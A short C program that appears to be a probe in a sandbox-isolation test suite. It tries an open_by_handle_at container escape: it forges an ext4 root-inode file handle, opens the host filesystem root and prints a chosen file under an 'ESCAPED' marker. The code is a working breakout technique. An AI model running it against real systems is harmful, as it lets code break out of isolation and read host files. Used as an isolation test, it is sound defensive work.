#include "../probe.h"

int main(void) {
  const char *path = value("FILE");
  struct file_handle *handle = malloc(sizeof *handle + 128);
  int id;
  handle->handle_bytes = 128;
  /* The root of an ext4 has inode 2; what is below it could be asked for from there. */
  uint32_t root[2] = {2, 0};
  int mount = open("/etc/hosts", O_RDONLY);
  if (name_to_handle_at(AT_FDCWD, "/etc/hosts", handle, &id, 0)) {
    held("name_to_handle_at");
  }
  handle->handle_bytes = 8;
  handle->handle_type = 1;
  memcpy(handle->f_handle, root, 8);
  int fd = open_by_handle_at(mount, handle, O_RDONLY | O_DIRECTORY);
  verdict("open_by_handle_at", fd);
  char text[200] = "";
  int file = openat(fd, path + 1, O_RDONLY);
  if (file >= 0 && read(file, text, sizeof text - 1) > 0) {
    printf("ESCAPED: %s\n", text);
  }
}
